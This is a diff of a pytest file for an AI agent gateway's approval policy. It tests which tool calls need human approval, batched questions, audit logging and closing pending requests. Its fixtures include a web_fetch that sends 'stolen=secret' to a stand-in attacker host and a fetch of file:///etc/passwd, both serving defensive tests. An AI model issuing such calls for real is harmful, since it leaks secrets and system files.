@@ -10,7 +10,8 @@ from typing import Any
 import pytest
 
 from gateway import tools as tool_families
-from gateway.agent.policy import needs_yes
+from gateway.agent.policy import Policy
+from gateway.agent.toolbox import Toolbox
 from gateway.background.jobs import approval
 from gateway.config.failpoints import Failpoints, Step
 from gateway.domain.channel import Capabilities, Outgoing
@@ -20,10 +21,10 @@ from gateway.domain.memory import NewMemory
 from gateway.domain.model import Prompt, Reply, ToolCall
 from gateway.domain.principals import Label, Role
 from gateway.domain.tasks import Lane
-from gateway.domain.tools import AnyTool, nothing_lasts
+from gateway.domain.tools import AnyTool, ToolClass
 from gateway.flow.approvals.own_calls import OWN_CALLS
 from gateway.flow.approvals.questions import MOST
-from gateway.store import reviews
+from gateway.store import audit, reviews
 from gateway.store.memory import memories
 from gateway.store.people import principals
 from gateway.store.pool import Database
@@ -40,6 +41,7 @@ from tests.flow.path import (
     FakeModel,
     MessagePath,
     build,
+    call,
     in_turn,
     message,
     restarted,
@@ -112,6 +114,8 @@ WRITES = [
     ("remember", {"content": "x"}),
     ("remember", {"content": "x", "supersedes": 1}),
     ("forget", {"id": 1}),
+    ("web_fetch", {"url": "http://eve.example/?stolen=secret"}),
+    ("web_fetch", {"url": "http://eve.example/", "raw": True}),
 ]
 """Every sink of every tool that has one."""
 HARMLESS = [
@@ -123,6 +127,8 @@ HARMLESS = [
     ("list_files", {}),
     ("cron", {"action": "list"}),
     ("send_message", {"text": "x"}),
+    ("web_search", {"query": "x"}),
+    ("web_fetch", {"url": "file:///etc/passwd"}),
     ("send_file", {"path": "SOUL.md"}),
 ]
 LABELS = {
@@ -167,17 +173,19 @@ async def at_work(path: MessagePath, who: str) -> tuple[list[AnyTool], Label]:
 async def test_every_lasting_call_of_every_tool_asks_by_the_label(path: MessagePath, who: str) -> None:
     tools, own = await at_work(path, who)
     by_name = {tool.name: tool for tool in tools}
-    assert {name for name, tool in by_name.items() if tool.lasting is None} == set(), "declare what lasts"
-    assert {name for name, tool in by_name.items() if tool.lasting is not nothing_lasts} == {name for name, _ in WRITES}
+    assert {name for name, tool in by_name.items() if tool.kind is None} == set(), "declare what its calls are"
+    harmless = {ToolClass.READ, ToolClass.WRITE, ToolClass.NET}
+    assert {name for name, tool in by_name.items() if tool.kind not in harmless} == {name for name, _ in WRITES}
+    toolbox = Toolbox(tools, path.environments.of(path.people.owner.id).toolbox._spill, Policy(own))
     assert set(by_name) == {name for name, _ in WRITES + HARMLESS}, "put the new tool into the table"
     for label, asks in LABELS[who].items():
         caller = replace(CALLER, label=label, address=None)
         for name, arguments in WRITES:
             given = by_name[name].arguments.model_validate(arguments)
-            assert (await needs_yes(by_name[name], given, caller, own) is not None) is asks, (name, arguments, label)
+            assert (await toolbox.judged(by_name[name], given, caller) is not None) is asks, (name, arguments, label)
         for name, arguments in HARMLESS:
             given = by_name[name].arguments.model_validate(arguments)
-            assert await needs_yes(by_name[name], given, caller, own) is None, (name, arguments, label)
+            assert await toolbox.judged(by_name[name], given, caller) is None, (name, arguments, label)
     assert (path.environments.of(path.people.owner.id).workspace.root / "SOUL.md").read_text() == "Be kind."
     assert await path.rows("select name, paused_at is null from schedules order by id") == [
         ("one", True),
@@ -260,6 +268,55 @@ async def test_the_same_call_keeps_its_number_and_there_is_no_flood(path: Messag
             assert more["waiting_for_approval"] == f"A{number}"
         assert (await wants(path, arguments={"path": "USER.md", "content": "more"}))["error"] == "too_many_questions"
     assert sum("may I make" in text for text in path.channel.texts) == MOST
+
+
+async def test_questions_of_one_task_come_in_one_message(path: MessagePath) -> None:
+    async with path.working():
+        await tainted(path)
+        calls = [call("write_file", path=name, content="Be evil.") for name in ("SOUL.md", "USER.md")]
+        path.model.answer = in_turn(said("", *calls), said("asked"))
+        await path.ask("do it")
+        question = await put(path)
+        assert [button.value for button in question.buttons] == ["/approve A1 A2", "/deny A1 A2"]
+        assert question.text.count("may I make") == 2
+        told = await path.ask("/approve A1 A2")
+        assert told.count("approved; it runs now") == 2
+        await path.settled()
+    assert soul(path) == (path.workspace / "USER.md").read_text() == "Be evil."
+    assert await state(path) == ["done", "done"]
+
+
+async def test_a_button_pressed_twice_runs_the_call_once(path: MessagePath) -> None:
+    async with path.working():
+        await tainted(path)
+        await wants(path, "edit_file", {"path": "SOUL.md", "edits": [{"old_text": "kind", "new_text": "kind kind"}]})
+        await path.ask("/approve A1", id="button:1")
+        assert "already answered" in await path.ask("/approve A1", id="button:2")
+        await path.settled()
+    assert soul(path) == "Be kind kind."
+
+
+async def test_what_was_asked_decided_and_run_is_in_the_audit_trail(path: MessagePath) -> None:
+    async with path.working():
+        await tainted(path)
+        await wants(path)
+        await path.ask("/approve A1")
+        await path.settled()
+        await wants(path, arguments={"path": "USER.md", "content": "x"})
+        await path.ask("/deny A2")
+        await wants(path, arguments={"path": "USER.md", "content": "y"})
+        await path.ask("/new")
+    events = await path.rows("select event, subject from audit order by seq")
+    assert events == [
+        ("approval asked", "A1"),
+        ("approval approved", "A1"),
+        ("approval run", "A1"),
+        ("approval asked", "A2"),
+        ("approval denied", "A2"),
+        ("approval asked", "A3"),
+        ("approval closed", "A3"),
+    ]
+    assert (await path.database.run(audit.verify)).broken == ""
 
 
 async def test_an_unattended_run_asks_where_its_person_wrote_last(path: MessagePath) -> None:
@@ -382,7 +439,7 @@ async def test_a_yes_is_to_the_time_that_was_shown(path: MessagePath) -> None:
     assert await path.rows("select name from schedules") == []
 
 
-@pytest.mark.parametrize("typed", ["A17", "17", "A", "", "A1 A2", "A99999999999999999999", "é"])
+@pytest.mark.parametrize("typed", ["A17", "17", "A", "", "A99999999999999999999", "é"])
 async def test_a_number_typed_wrong_is_answered_in_one_line(path: MessagePath, typed: str) -> None:
     async with path.working():
         [line] = (await path.ask(f"/deny {typed}")).splitlines()
@@ -480,12 +537,8 @@ async def test_a_kill_during_the_call_neither_repeats_nor_hides_it(path: Message
         await again.settled()
         told = "".join(await again.channel.until(lambda texts: any("was approved" in text for text in texts)))
     assert await state(path) == ["done"]
-    if tool == "write_file":
-        assert soul(path) == "Be evil."
-        assert "ok" in told
-    else:
-        assert "may_have_run" in told
-        assert soul(path) == ("Be kind." if step is Step.APPROVAL_STARTED else "Be evil.")
+    assert "may_have_run" in told
+    assert soul(path) == ("Be kind." if step is Step.APPROVAL_STARTED else "Be evil.")
 
 
 async def test_a_question_that_nobody_was_shown_is_put_after_the_start(path: MessagePath) -> None:
@@ -564,17 +617,26 @@ async def test_the_same_call_twice_in_one_answer_is_one_question(path: MessagePa
     assert [each["waiting_for_approval"] for each in results(path.model.prompts[-1])] == ["A1", "A1"]
 
 
-async def test_new_leaves_a_question_open_and_its_result_is_told_in_the_new_session(path: MessagePath) -> None:
+async def test_new_closes_what_was_asked(path: MessagePath) -> None:
     async with path.working():
         await tainted(path)
         await wants(path)
-        await path.ask("/new")
-        await path.ask("/approve A1")
+        assert "A1 is closed" in await path.ask("/new")
+        assert "was closed" in await path.ask("/approve A1")
+        await path.settled()
+    assert (soul(path), await state(path)) == ("Be kind.", ["closed"])
+
+
+async def test_stop_closes_what_was_asked_and_the_model_is_told(path: MessagePath) -> None:
+    async with path.working():
+        await tainted(path)
+        await wants(path)
+        assert await path.ask("/stop") == "Nothing is running. A1 is closed."
         await path.settled()
         path.model.answer = lambda _: said("fine")
         await path.ask("and now?")
-    assert soul(path) == "Be evil."
-    assert "A1 (write_file) was approved" in str(path.model.prompts[-1].messages)
+    assert (soul(path), await state(path)) == ("Be kind.", ["closed"])
+    assert "A1 (write_file) was closed with the request" in str(path.model.prompts[-1].messages)
 
 
 async def test_a_conversation_that_goes_on_elsewhere_learns_of_the_answer(path: MessagePath) -> None:
